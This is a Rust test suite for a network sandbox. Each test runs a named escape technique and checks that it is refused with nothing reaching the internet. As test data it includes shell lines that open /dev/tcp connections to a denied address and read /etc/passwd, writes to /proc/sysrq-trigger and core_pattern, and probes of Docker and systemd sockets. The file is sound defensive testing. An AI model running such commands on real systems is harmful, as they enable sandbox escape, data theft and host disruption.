//! Known ways out, one test each, named for the technique. The stage shows that each arrives
//! where nothing holds it; here each is refused at once, and nothing reaches the internet.

use crate::world::needs::needs;
use crate::world::{Output, World};

/// A policy that permits something, so that a refusal is not for want of a policy.
const ALLOW: [&str; 2] = ["--allow", "domain=allowed.test"];

/// What the kernel says to a socket that may not be.
const REFUSALS: &[&str] = &[
    "EPERM",
    "EACCES",
    "ECONNREFUSED",
    "EAFNOSUPPORT",
    "EPROTONOSUPPORT",
    "ESOCKTNOSUPPORT",
    "EOPNOTSUPP",
];

/// The denied host's addresses: v4, v6, and v4 in v6's clothes.
const DENIED: [&str; 3] = ["203.0.113.66", "2001:db8::66", "::ffff:203.0.113.66"];

/// Socket options that move a packet without a hook seeing where to. Root may set them all.
pub(crate) const OPTIONS: &[&str] = &[
    "bind-to-device",
    "unicast-if",
    "unicast-if6",
    "transparent",
    "mark",
    "source-route",
    "routing-header",
    "join4",
    "join6",
    "repair",
];

/// Where daemons listen who would do anything for whoever asks.
const DAEMONS: [&str; 5] = [
    "/run/docker.sock",
    "/run/containerd/containerd.sock",
    "/run/podman/podman.sock",
    "/run/dbus/system_bus_socket",
    "/run/systemd/private",
];

/// Runs one attack under the policy.
fn attack(world: &World, words: &[&str]) -> Output {
    world.boundary(&ALLOW, &[&[world.attack()], words].concat()).output()
}

/// Runs one attack that must be refused without a trace at the internet.
#[track_caller]
fn is_refused(world: &World, words: &[&str]) -> Output {
    let out = attack(world, words);
    out.refused(REFUSALS).nothing_left();
    out
}

#[test]
fn a_datagram_by_any_call_to_any_address_is_refused_and_on_record() {
    needs!(root, bpf);
    let world = World::new();
    for target in DENIED {
        for how in ["sendto", "connect", "sendmsg", "sendmmsg", "write", "from-inside"] {
            let out = is_refused(&world, &["udp", how, target, "9999"]);
            out.record(&[("decision", "deny"), ("proto", "udp"), ("door", "kernel")]);
        }
    }
}

#[test]
fn quic_to_an_allowed_address_is_refused_at_once() {
    needs!(root, bpf);
    let world = World::new();
    for target in ["203.0.113.10", "2001:db8::10"] {
        is_refused(&world, &["udp", "connect", target, "443"]);
    }
}

#[test]
fn a_datagram_to_an_unspecified_family_is_refused() {
    needs!(root, bpf);
    let world = World::new();
    is_refused(&world, &["udp", "unspec", DENIED[0], "9999"]);
    is_refused(&world, &["udp", "four-on-six", DENIED[0], "9999"]);
}

#[test]
fn udplite_is_refused() {
    needs!(root, bpf);
    let world = World::new();
    for target in DENIED {
        is_refused(&world, &["udplite", target, "9999"]).record(&[("decision", "deny")]);
    }
}

#[test]
fn icmp_and_raw_sockets_are_refused() {
    needs!(root, bpf);
    let world = World::new();
    for target in &DENIED[..2] {
        is_refused(&world, &["icmp", target]).record(&[("decision", "deny")]);
        // The kernel itself refuses this one, for want of a capability, before any hook sees it.
        is_refused(&world, &["raw", target]);
    }
}

#[test]
fn a_frame_of_ones_own_making_is_refused() {
    needs!(root, bpf);
    let world = World::new();
    for index in ["1", "2", "3"] {
        is_refused(&world, &["packet", index]);
    }
}

#[test]
fn mptcp_is_refused_or_turned() {
    needs!(root, bpf);
    let world = World::new();
    for target in DENIED {
        attack(&world, &["mptcp", target, "80", "http:denied.test"]).nothing_left();
    }
}

#[test]
fn fast_open_sends_nothing_out() {
    needs!(root, bpf);
    let world = World::new();
    for target in DENIED {
        attack(&world, &["fastopen", target, "80"]).nothing_left();
    }
}

#[test]
fn other_transports_of_the_internet_families_are_refused() {
    needs!(root, bpf);
    let world = World::new();
    for family in ["inet", "inet6"] {
        for (kind, protocol) in [
            ("stream", "sctp"),
            ("seqpacket", "sctp"),
            ("dccp-socket", "dccp"),
            ("dgram", "l2tp"),
            ("raw", "255"),
        ] {
            is_refused(&world, &["socket", family, kind, protocol]);
        }
    }
}

#[test]
fn other_families_are_refused() {
    needs!(root, bpf);
    let world = World::new();
    for words in [
        ["vsock", "stream", "0"],
        ["alg", "seqpacket", "0"],
        ["tipc", "stream", "0"],
        ["rds", "seqpacket", "0"],
        ["smc", "stream", "0"],
        ["kcm", "dgram", "0"],
        ["xdp", "raw", "0"],
        ["packet", "raw", "3"],
        // Netlink: connector, netfilter, audit; only routes may be read.
        ["netlink", "raw", "11"],
        ["netlink", "raw", "12"],
        ["netlink", "raw", "9"],
    ] {
        is_refused(&world, &[&["socket"], &words[..]].concat());
    }
}

#[test]
fn options_that_choose_another_way_for_a_packet_are_refused() {
    needs!(root, bpf);
    let world = World::new();
    for option in OPTIONS.iter().chain(&["ulp"]) {
        attack(&world, &["option", option, "2"]).refused(&["EPERM", "EACCES"]).nothing_left();
    }
}

#[test]
fn calls_that_reach_round_the_walls_are_refused() {
    needs!(root, bpf);
    let world = World::new();
    for call in ["bpf", "io-uring", "unshare-net", "unshare-user", "keyctl", "request-key"] {
        attack(&world, &["syscall", call]).refused(&["EPERM", "EACCES", "ENOSYS"]).nothing_left();
    }
}

#[test]
fn processes_outside_cannot_be_traced_or_signalled() {
    needs!(root, bpf);
    let world = World::new();
    let victim = world.bare(&["sleep", "1000"]).start();
    let pid = victim.pid().to_string();
    for call in ["ptrace", "kill", "pidfd"] {
        let out = attack(&world, &["syscall", call, &pid]);
        out.refused(&["EPERM", "EACCES", "ESRCH", "EINVAL"]);
    }
    let keeper = "for pid in $(cat /proc/[0-9]*/stat 2>/dev/null | cut -d' ' -f1); do \
                  kill -0 $pid 2>/dev/null && tr '\\0' ' ' </proc/$pid/cmdline && echo; done; true";
    let out = world.boundary(&ALLOW, &["sh", "-c", keeper]).output();
    out.expect(!out.stdout.contains("--audit-log"), "boundary itself cannot be signalled");
    victim.kill();
}

#[test]
fn keys_cannot_be_typed_into_the_callers_terminal() {
    needs!(root, bpf, setsid);
    let world = World::new();
    let (session, terminal) = world.boundary(&ALLOW, &[world.attack(), "tiocsti"]).on_terminal();
    terminal.wait_for("tiocsti");
    let text = terminal.text();
    assert!(text.contains("EPERM") || text.contains("EIO"), "it is refused:\n{text}");
    session.finish();
}

#[test]
fn no_capability_can_be_used_against_the_walls() {
    needs!(root, bpf);
    let world = World::new();
    for run in [false, true] {
        let command = [world.attack(), "status"];
        let run_as = world.boundary(&ALLOW, &command);
        let out = if run { run_as.through_sudo().output() } else { run_as.output() };
        out.succeeded();
        let found = out.finding()["found"].clone();
        // NET_ADMIN, NET_RAW, SYS_MODULE, SYS_RAWIO, SYS_PTRACE, SYS_ADMIN, SYS_BOOT, PERFMON, BPF.
        let walls: u64 = [12, 13, 16, 17, 19, 21, 22, 38, 39].iter().map(|bit| 1 << bit).sum();
        for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
            let bits = found[set].as_str().and_then(|text| u64::from_str_radix(text, 16).ok());
            out.expect(bits.is_some_and(|bits| bits & walls == 0), &format!("none is in {set}"));
        }
        out.expect(found["NoNewPrivs"] == "1", "and none can be gained");
        out.expect(found["Seccomp"] == "2", "a filter is in force");
    }
}

#[test]
fn inherited_descriptors_are_closed() {
    needs!(root, bpf, bash);
    let world = World::new();
    let script = "exec 3<>/dev/tcp/203.0.113.66/80 7</etc/passwd; exec \"$@\"";
    let inner = world.boundary(&ALLOW, &[world.attack(), "fds"]);
    let out = inner.under(&["bash", "-c", script, "--"]).output();
    out.succeeded();
    out.expect(out.finding()["found"] == serde_json::json!({}), "none above 2 is open");
}

#[test]
fn standard_input_that_is_a_connection_is_refused() {
    needs!(root, bpf, bash);
    let world = World::new();
    let script = "exec 0<>/dev/tcp/203.0.113.66/80; exec \"$@\"";
    let inner = world.boundary(&ALLOW, &["sh", "-c", "echo leaked >&0"]);
    let out = inner.under(&["bash", "-c", script, "--"]).output();
    out.exits(125);
    out.expect(out.requests.is_empty(), "nothing is sent over it");
}

#[test]
fn sockets_of_the_hosts_daemons_are_out_of_reach() {
    needs!(root, bpf);
    let world = World::new();
    for daemon in DAEMONS {
        let listener = world.host().run(|| {
            let path = std::path::Path::new(daemon);
            std::fs::create_dir_all(path.parent().expect("it has one")).expect("/run is ours");
            std::os::unix::net::UnixListener::bind(path).expect("/run is ours")
        });
        world.bare(&[world.attack(), "unix", daemon]).output().succeeded();
        for user in [false, true] {
            let run = world.boundary(&ALLOW, &[world.attack(), "unix", daemon]);
            let out = if user { run.through_sudo().output() } else { run.output() };
            out.refused(&["EPERM", "EACCES", "ENOENT", "ECONNREFUSED"]);
        }
        drop(listener);
    }
}

#[test]
fn the_walls_cannot_be_seen_or_written_in_the_file_system() {
    needs!(root, bpf);
    let world = World::new();
    for attempt in [
        "echo $$ > /sys/fs/cgroup/cgroup.procs",
        "echo $$ > /sys/fs/cgroup/unified/cgroup.procs",
        "echo x > /proc/sys/kernel/core_pattern",
        "echo h > /proc/sysrq-trigger",
        "echo x > /dev/kmsg",
        "mount -t cgroup2 none /mnt",
        "umount -l /etc/ssl/certs",
        "unshare -n true",
        "unshare -Ur true",
        "ls /sys/fs/cgroup/*/cgroup.procs /sys/fs/cgroup/cgroup.procs",
    ] {
        let out = world.boundary(&ALLOW, &["sh", "-c", attempt]).output();
        out.expect(out.status.is_some_and(|status| !status.success()), "it fails");
    }
}

#[test]
fn a_server_of_the_command_is_not_reachable_from_outside() {
    needs!(root, bpf);
    let world = World::new();
    for (address, host) in [("0.0.0.0", "10.77.0.2"), ("::", "fd77::2")] {
        let session = world.boundary(&ALLOW, &[world.attack(), "listen", address, "7000"]).start();
        session.wait_for("listening");
        let target = (host.parse::<std::net::IpAddr>().expect("an address"), 7000).into();
        let reached = world.internet().run(move || {
            #[expect(clippy::disallowed_methods, reason = "the attacker on the internet")]
            std::net::TcpStream::connect_timeout(&target, std::time::Duration::from_millis(700))
                .is_ok()
        });
        session.kill();
        let out = session.finish();
        out.expect(!reached, "nobody outside can connect");
        let answers = out.packets.iter().filter(|packet| packet.protocol == Some(6));
        out.expect(answers.count() == 0, "and nothing answers");
    }
}

#[test]
fn another_loopback_server_does_not_inherit_the_proxys_rights() {
    needs!(root, bpf);
    let world = World::new();
    world.loopback_service(9200);
    // Straight to the host's service, by every spelling of the loopback.
    for target in
        ["127.0.0.1", "127.1.2.3", "::1", "::ffff:127.0.0.1", "0.0.0.0", "::", "10.77.0.2"]
    {
        let out = attack(&world, &["tcp", target, "9200", "http:localhost"]);
        out.expect(!out.stdout.contains("host service"), &format!("{target} is not the way"));
    }
}

#[test]
fn servers_and_clients_of_the_command_meet_on_loopback() {
    needs!(root, bpf);
    let world = World::new();
    for address in ["127.0.0.1", "::1", "127.0.0.9", "::ffff:127.0.0.1"] {
        let out = attack(&world, &["pair", address]);
        out.succeeded().says("pong").nothing_left();
        out.expect(out.finding()["found"]["names_agree"] == true, "both see the same names");
    }
}

#[test]
fn a_program_sees_where_it_meant_to_go() {
    needs!(root, bpf);
    let world = World::new();
    for (target, peer) in [
        ("203.0.113.66", "203.0.113.66:80"),
        ("2001:db8::66", "[2001:db8::66]:80"),
        ("::ffff:203.0.113.66", "[::ffff:203.0.113.66]:80"),
    ] {
        let out = attack(&world, &["tcp", target, "80", "http:denied.test"]);
        out.succeeded().says("403").nothing_left();
        out.expect(out.finding()["found"]["peer"] == peer, "getpeername shows the target");
    }
}

#[test]
fn bytes_that_are_neither_tls_nor_http_are_refused_at_every_port() {
    needs!(root, bpf);
    let world = World::new();
    for port in ["7", "22", "80", "443", "5432"] {
        for what in ["send:hello there\n", "read"] {
            let out = attack(&world, &["tcp", "203.0.113.10", port, what]);
            out.nothing_left();
            out.expect(!out.stdout.contains("SSH"), "nothing comes back");
        }
    }
}
